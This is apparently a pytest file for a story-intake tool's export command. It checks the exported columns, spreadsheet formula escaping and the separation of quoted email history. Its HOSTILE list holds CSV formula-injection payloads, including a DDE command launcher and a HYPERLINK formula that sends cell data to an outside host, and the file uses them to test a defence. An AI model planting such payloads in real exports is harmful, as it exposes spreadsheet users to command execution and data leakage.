"""What `export` prints: the contract's columns, through the command line."""

from __future__ import annotations

import csv
import io
import json
from email.utils import formataddr
from pathlib import Path

import pytest
from conftest import maildir_config, nested_message, seed_maildir, story_message

from intake.report import spreadsheet_safe
from story_intake.cli import main
from triage.reply.policy import reference


def test_report_export_has_reference_and_mailbox_in_jsonl_and_csv(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    config = maildir_config(tmp_path)
    seed_maildir(tmp_path / "mailbox", story_message(1, message_id="<one@example.org>"),
                 nested_message(5000))  # fmt: skip
    assert main(["--config", str(config), "once"]) == 0
    capsys.readouterr()
    assert main(["--config", str(config), "export", "--format", "jsonl"]) == 0
    story, bad = [json.loads(line) for line in capsys.readouterr().out.splitlines()]
    assert story["reference"] == reference("one@example.org") and story["reference"][:3] == "ST-"
    assert story["mailbox"] == bad["mailbox"] == "maildir:mailbox"  # the folder it came from
    assert bad["reference"] is None and bad["quarantined"]  # not a story yet: no reference
    assert main(["--config", str(config), "export", "--format", "csv"]) == 0
    rows = list(csv.DictReader(io.StringIO(capsys.readouterr().out)))
    assert rows[0]["reference"] == story["reference"]
    assert rows[0]["mailbox"] == story["mailbox"]


HOSTILE = ('=HYPERLINK("http://example.net/x?"&A1,"open")', "+cmd|' /C calc'!A0", "-2+3+cmd",
           "@SUM(1+1)*cmd")  # fmt: skip


def test_report_csv_export_keeps_hostile_cells_as_text(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    config = maildir_config(tmp_path)
    for n, bad in enumerate(HOSTILE):
        message = story_message(
            n,
            sender=formataddr((bad, f"p{n}@example.org")),
            body=f"{bad} The GP and the council never shared my notes.",
        )
        subject = f"Subject: My story number {n}".encode()
        seed_maildir(tmp_path / "mailbox", message.replace(subject, f"Subject: {bad}".encode()))
    assert main(["--config", str(config), "once"]) == 0
    capsys.readouterr()
    assert main(["--config", str(config), "export", "--format", "csv"]) == 0
    rows = list(csv.DictReader(io.StringIO(capsys.readouterr().out)))
    assert len(rows) == len(HOSTILE)
    for row in rows:
        for column in ("subject", "sender_name", "text"):
            assert row[column][0] == "'" and row[column][1] in "=+-@", (column, row[column])
    assert sorted(row["subject"][1:] for row in rows) == sorted(HOSTILE)  # nothing else changed


@pytest.mark.parametrize("start", ["\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20"])
def test_report_spreadsheet_safe_covers_control_and_full_width_starts(start: str) -> None:
    assert spreadsheet_safe(f"{start}SUM(A1)") == f"'{start}SUM(A1)"
    assert spreadsheet_safe(f"a{start}") == f"a{start}"  # only the first character counts


REPLY = """La mairie n'a jamais transmis mon dossier au centre de santé.

De : Équipe Témoignages <temoignages@example.org<mailto:temoignages@example.org>>
Envoyé : samedi 30 septembre 2017 18:30
À : Claire Morel <claire.morel@example.net>
Objet : RE: Votre témoignage

Bonjour Claire, pourriez-vous nous en dire plus sur votre demande de logement ?"""


def test_report_export_carries_quoted_history_apart_from_the_text(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    config = maildir_config(tmp_path)
    seed_maildir(tmp_path / "mailbox", story_message(1, body=REPLY))
    assert main(["--config", str(config), "once"]) == 0
    capsys.readouterr()
    assert main(["--config", str(config), "export", "--format", "jsonl"]) == 0
    (story,) = [json.loads(line) for line in capsys.readouterr().out.splitlines()]
    assert story["text"] == "La mairie n'a jamais transmis mon dossier au centre de santé."
    assert story["quoted"].startswith("De : Équipe") and "demande de logement" in story["quoted"]
    assert main(["--config", str(config), "export", "--format", "csv"]) == 0
    (row,) = list(csv.DictReader(io.StringIO(capsys.readouterr().out)))
    assert row["quoted"] == story["quoted"] and row["signature"] == row["footer"] == ""
